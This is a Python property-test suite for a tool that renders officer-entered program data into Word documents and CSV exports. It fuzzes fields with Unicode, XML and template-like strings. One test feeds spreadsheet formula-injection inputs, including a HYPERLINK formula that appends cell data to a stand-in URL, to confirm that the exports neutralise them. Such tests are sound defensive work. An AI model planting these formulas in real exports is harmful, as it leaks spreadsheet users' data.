"""Property tests: whatever text an officer types into a free-text field comes out verbatim in the document.

For each bundled example, the test first finds the free-text fields (strings the schema does not constrain by
pattern, enum or format) whose current value appears in a rendered document. Hypothesis then puts arbitrary
Unicode into one of them (Cyrillic with ң ө ү, XML specials, text that looks like template tags, newlines, tabs,
right-to-left marks, emoji, long strings) and the document must contain it exactly.

Profile: `SEDP_HYPOTHESIS_EXAMPLES` examples per example program (default 40 in CI, where the suite must stay fast;
run with 500 or more before a release). The seed is derandomized so failures reproduce.
"""

from __future__ import annotations

import copy
import functools
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sedp_core.input.loader import LoadedData, load_file, sanitize
from sedp_core.registry.collect import get_registry
from sedp_core.rendering.render import planned_documents, render_to_bytes
from sedp_core.schema.export import methodology_schema
from sedp_core.validation.validate import validate_data
from tests.conftest import EXAMPLES, ROOT, docx_text

MAX_EXAMPLES = int(os.environ.get("SEDP_HYPOTHESIS_EXAMPLES", "40"))

SPECIAL = ["&", "<", ">", '"', "'", "&amp;", "<w:p>", "]]>", "{{ title }}", "{% if x %}", "{#", "\n", "\t",
           "\r\n", "\r", "\u200f", "\u200e", "🙂", "ң", "ө", "ү", "Ө", "Ү", "Ң", "ё", "Монгол", "Кыргызстан", "  ",
           "\\", "%"]
CHARS = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff") | st.sampled_from(
    ["\n", "\t", "\r"])
HOSTILE = st.lists(st.one_of(st.sampled_from(SPECIAL), st.text(CHARS, min_size=1, max_size=12)),
                   min_size=1, max_size=12).map("".join).filter(lambda s: s.strip() != "")
LONG = st.text(st.sampled_from("абвгдеёжзийклмнңоөпрстуүфхцчшщъыьэюя ABCxyz0123456789,.;-"), min_size=500,
               max_size=3000).filter(lambda s: s.strip() != "")


# Finding codes that say a text was changed on load, and how.
TEXT_CORRECTED = {"aa.kyrgyz-letters"}


def _free_text_pointers(data: Any, schema: dict[str, Any]) -> list[str]:
    """Pointers of strings in the data that the schema leaves free (no pattern, enum, format or const)."""
    defs = schema.get("$defs", {})

    def resolve(node: dict[str, Any]) -> dict[str, Any]:
        while "$ref" in node:
            node = defs[node["$ref"].rsplit("/", 1)[-1]]
        return node

    found: list[str] = []

    def walk(value: Any, node: dict[str, Any] | None, pointer: str) -> None:
        node = resolve(node or {})
        options = [resolve(o) for o in node.get("anyOf", [node])]
        if isinstance(value, str):
            free = any(o.get("type") == "string" and not ({"pattern", "enum", "format", "const"} & o.keys())
                       for o in options)
            if free and "enum" not in node:
                found.append(pointer)
            return
        for option in options:
            if isinstance(value, dict) and (option.get("type") == "object" or "properties" in option):
                props = option.get("properties", {})
                per_language = option.get("patternProperties", {})
                for key, item in value.items():
                    sub = props.get(key) or next(iter(per_language.values()), None)
                    walk(item, sub, f"{pointer}/{key}")
                return
            if isinstance(value, list) and option.get("type") == "array":
                for i, item in enumerate(value):
                    walk(item, option.get("items"), f"{pointer}/{i}")
                return

    walk(data, schema, "")
    return found


def _get(data: Any, pointer: str) -> Any:
    for part in pointer.strip("/").split("/"):
        data = data[int(part)] if isinstance(data, list) else data[part]
    return data


def _set(data: Any, pointer: str, value: Any) -> None:
    *parents, last = pointer.strip("/").split("/")
    for part in parents:
        data = data[int(part)] if isinstance(data, list) else data[part]
    data[int(last) if isinstance(data, list) else last] = value


def _marked(example: Path, marker: Any) -> tuple[dict[str, str], Any]:
    """Every free-text field of the example given its own text `marker(number)` at once: (pointer → text, the
    validated result). A field the rules refuse to see changed (a catalog code, a reference by name) is not free
    text and is left as it was."""
    loaded = load_file(example)
    schema = methodology_schema(validate_data(loaded).methodology)
    # The methodology reference picks the schema itself, and confirmations name the wording a program confirms:
    # neither is document text.
    pointers = [p for p in _free_text_pointers(loaded.data, schema)
                if not p.startswith(("/methodology/", "/confirmations/"))]
    markers = {pointer: marker(number) for number, pointer in enumerate(pointers)}
    while True:
        marked = copy.deepcopy(loaded.data)
        for pointer, text in markers.items():
            _set(marked, pointer, text)
        result = validate_data(LoadedData(data=marked, source=str(example)))
        refused = {f.path for f in result.report.findings if f.severity == "error"} & markers.keys()
        if not refused:
            break
        markers = {pointer: text for pointer, text in markers.items() if pointer not in refused}
    assert result.program is not None, result.report.to_json()
    return markers, result


@functools.cache
def _free_text_markers(example: Path) -> tuple[dict[str, str], Any]:
    """`_marked` with a plain marker per field, once per example: `_targets` and the corpus figures both use it
    (validating an approved example renders all its documents in memory)."""
    return _marked(example, lambda number: f"qz{number:05d}zq")


@functools.cache
def _targets(example: Path) -> tuple[dict[str, Any], list[tuple[str, str, str, int | None]]]:
    """The example's data and the (pointer, document id, language, item no) of fields shown verbatim in a
    document.

    Every free-text field is given its own marker at once and the documents are rendered once: the document
    that shows a field's marker is the one that shows that field (matching the original values instead would
    also find a value that another field happens to repeat)."""
    markers, result = _free_text_markers(example)
    texts = {(job.document.id, job.language, job.item_no): docx_text(
        render_to_bytes(result.program, result.methodology, job.document, job.language, item=job.item,
                        item_no=job.item_no)) for job in planned_documents(result.program, result.methodology)}
    targets = []
    for pointer, marker in markers.items():
        shown = [key for key, text in texts.items() if marker in text]
        if shown:
            targets.append((pointer, *shown[0]))
    return load_file(example).data, targets


def _render_with(example: Path, pointer: str, doc_id: str, lang: str, item_no: int | None,
                 value: str) -> tuple[str, Any]:
    data, report = _render_bytes_with(example, pointer, doc_id, lang, item_no, value)
    return docx_text(data), report


def _render_bytes_with(example: Path, pointer: str, doc_id: str, lang: str, item_no: int | None,
                       value: str) -> tuple[bytes, Any]:
    data, _ = _targets(example)
    mutated = copy.deepcopy(data)
    _set(mutated, pointer, value)
    loaded = LoadedData(data=json.loads(json.dumps(mutated)), source=str(example))
    sanitize(loaded)
    result = validate_data(loaded)
    assert result.program is not None, result.report.to_json()
    job = next(j for j in planned_documents(result.program, result.methodology, (doc_id,), (lang,))
               if j.item_no == item_no)
    data = render_to_bytes(result.program, result.methodology, job.document, lang, item=job.item, item_no=item_no)
    return data, result.report


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_examples_show_enough_free_text_fields(example: Path) -> None:
    _, targets = _targets(example)
    assert len(targets) >= 10, targets


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
@settings(max_examples=MAX_EXAMPLES, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_text_comes_out_verbatim(example: Path, data: st.DataObject) -> None:
    _, targets = _targets(example)
    pointer, doc_id, lang, item_no = data.draw(st.sampled_from(targets), label="field")
    value = data.draw(st.one_of(HOSTILE, LONG), label="text")
    text, report = _render_with(example, pointer, doc_id, lang, item_no, value)
    # A plugin may correct a text on load (Kyrgyz look-alike letters), but only with a warning on that field.
    corrected = [f for f in report.findings if f.path == pointer and f.code in TEXT_CORRECTED]
    # LF, CRLF and CR are each one line break in Word (python-docx reads a break back as LF).
    assert value.replace("\r\n", "\n").replace("\r", "\n") in text or corrected, f"{pointer} in {doc_id}[{lang}]"
    assert all(f.severity == "warning" for f in corrected)


@pytest.mark.parametrize("example", EXAMPLES[:1], ids=lambda p: p.relative_to(ROOT).as_posix())
def test_forbidden_characters_are_removed_with_a_warning_and_nothing_else_changes(example: Path) -> None:
    _, targets = _targets(example)
    pointer, doc_id, lang, item_no = targets[0]
    text, report = _render_with(example, pointer, doc_id, lang, item_no,
                                "before\x00\x07\x0bmiddle\x1f\ufffeafter & <end>")
    assert "beforemiddleafter & <end>" in text
    assert [f.path for f in report.findings if f.code == "text.forbidden-character"] == [pointer]


def test_registry_has_examples_methodologies() -> None:
    ids = {m.id for m in get_registry().methodologies.values()}
    assert ids, "no methodology registered"


def _number_pointers(value: Any, pointer: str = "") -> list[str]:
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in _number_pointers(v, f"{pointer}/{k}")]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _number_pointers(v, f"{pointer}/{i}")]
    return [pointer] if isinstance(value, int | float) and not isinstance(value, bool) else []


@pytest.mark.parametrize("bad", [float("inf"), float("-inf"), float("nan"), 1e308, 10**30],
                         ids=["inf", "-inf", "nan", "1e308", "10**30"])
@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_every_number_of_a_program_refuses_infinity_and_what_no_document_can_print(example: Path, bad: float) -> None:
    """Each number of each example, made infinite, NaN or too large to round (1e26 and up cannot be formatted to
    its digits), is an error at its own field: nothing reaches a document as '∞' or fails at render time."""
    loaded = load_file(example)
    pointers = _number_pointers(loaded.data)
    assert pointers
    mutated = copy.deepcopy(loaded.data)
    for pointer in pointers:
        _set(mutated, pointer, bad)
    report = validate_data(LoadedData(data=mutated, source=str(example), positions=loaded.positions)).report
    refused = {f.path for f in report.findings if f.severity == "error"}
    assert [p for p in pointers if p not in refused] == []


def test_every_number_field_of_every_methodology_is_bounded() -> None:
    """The schema of every installed methodology bounds every number field (finite money and quantities)."""
    unbounded = []
    for methodology in get_registry().methodologies.values():
        schema = methodology_schema(methodology)

        def walk(node: Any, where: str, key: str = methodology.key) -> None:
            if isinstance(node, dict):
                bounded = ({"maximum", "exclusiveMaximum"} & node.keys()
                           and {"minimum", "exclusiveMinimum"} & node.keys())
                if node.get("type") in ("number", "integer") and not bounded:
                    unbounded.append(f"{key}: {where}")
                for k, v in node.items():
                    walk(v, f"{where}/{k}", key)
            elif isinstance(node, list):
                for i, v in enumerate(node):
                    walk(v, f"{where}/{i}", key)

        walk(schema, "")
    assert unbounded == []


FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_no_export_carries_a_live_spreadsheet_formula(example: Path, tmp_path: Path) -> None:
    """Every free-text field set to a formula at once: no cell of any CSV or .pb file the exporters write starts
    as a formula would (each such text carries its leading apostrophe, the rest of it verbatim)."""
    import csv
    import io

    _, result = _marked(example, lambda number: FORMULAS[number % len(FORMULAS)] + f" qz{number:05d}zq")
    exporters = get_registry().exporters
    names = ["opendata"] + (["pabulib"] if result.methodology.id == "mn.onhs" else [])
    files = []
    for name in names:
        out = tmp_path / name
        files += [p for p in exporters[name].function(result.program, result.methodology, out)
                  if p.suffix in (".csv", ".pb")]
    live, quoted = [], 0
    for path in files:
        text = io.StringIO(path.read_bytes().decode("utf-8"), newline="")
        for row in csv.reader(text, delimiter=";" if path.suffix == ".pb" else ","):
            for cell in row:
                try:
                    float(cell)
                    continue  # a number column: "-2" is the number -2
                except ValueError:
                    pass
                if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
                    live.append(f"{path.name}: {cell[:40]!r}")
                quoted += cell.startswith("'") and "qz" in cell
    assert live == []
    assert quoted >= 5, "the formulas did not reach the exports"


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_carriage_returns_become_line_breaks_not_raw_characters(example: Path) -> None:
    """A CR or CRLF in a value (text from Windows, a workbook cell) is a Word line break like LF; left raw inside
    w:t, Word shows it as a space."""
    import zipfile

    _, targets = _targets(example)
    pointer, doc_id, lang, item_no = targets[0]
    data, _ = _render_bytes_with(example, pointer, doc_id, lang, item_no, "one\r\ntwo\rthree\nfour")
    xml = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist()
                   if n.endswith(".xml")).decode("utf-8")
    assert "\r" not in xml
    assert re.search(r"one</w:t><w:br/><w:t[^>]*>two</w:t><w:br/><w:t[^>]*>three</w:t><w:br/><w:t[^>]*>four", xml)


@pytest.mark.parametrize("example", EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_spaces_tabs_and_line_breaks_around_a_text_are_kept_in_every_document(example: Path) -> None:
    """Every free-text field given leading and trailing spaces, tabs and a line break at once: each document that
    shows a field shows its whitespace too (the Kyrgyz action plan stripped its task titles)."""
    markers, result = _marked(example, lambda number: f" \tqz{number:05d}zq \t\n")
    texts = [docx_text(render_to_bytes(result.program, result.methodology, job.document, job.language,
                                       item=job.item, item_no=job.item_no))
             for job in planned_documents(result.program, result.methodology)]
    stripped = sorted({marker.strip() for text in texts for marker in markers.values()
                       if marker.strip() in text and marker not in text})
    assert stripped == []


KYRGYZ_EXAMPLES = [e for e in EXAMPLES if e.parent.name == "kyrgyz_aa"]


@pytest.mark.parametrize("example", KYRGYZ_EXAMPLES, ids=lambda p: p.relative_to(ROOT).as_posix())
def test_kyrgyz_letter_repair_warns_and_can_be_turned_off(example: Path) -> None:
    """The look-alike letter repair changes what was typed only with a warning on that field; with
    `letter_repair: false` every Kyrgyz text comes out exactly as typed, and nothing is reported."""
    _, targets = _targets(example)
    pointer, doc_id, lang, item_no = next(t for t in targets if t[0].endswith("/ky"))
    typed = "суунуӊ ɵзөн Yй y LED"
    text, report = _render_with(example, pointer, doc_id, lang, item_no, typed)
    assert typed not in text and [f.path for f in report.findings if f.code == "aa.kyrgyz-letters"] == [pointer]
    data, _ = _targets(example)
    kept = copy.deepcopy(data)
    kept["letter_repair"] = False
    _set(kept, pointer, typed)
    result = validate_data(LoadedData(data=kept, source=str(example)))
    assert result.program is not None and not [f for f in result.report.findings if f.code == "aa.kyrgyz-letters"]
    job = next(j for j in planned_documents(result.program, result.methodology, (doc_id,), (lang,))
               if j.item_no == item_no)
    assert typed in docx_text(render_to_bytes(result.program, result.methodology, job.document, lang, item=job.item,
                                              item_no=item_no))


def test_reliability_figures_come_from_this_corpus() -> None:
    """docs/reliability.md states the corpus's figures; they must be this corpus's (update the page with it)."""
    text = (ROOT / "docs/reliability.md").read_text(encoding="utf-8")
    free = sum(len(_free_text_markers(e)[0]) for e in EXAMPLES)
    shown = sum(len(_targets(e)[1]) for e in EXAMPLES)
    numbers = sum(len(_number_pointers(load_file(e).data)) for e in EXAMPLES)
    assert f"**{free:,} free-text fields**" in text and f"**{shown:,}** of which" in text, (free, shown)
    assert f"**{numbers:,} numbers**" in text, numbers
    assert "40 strings per example by default" in text
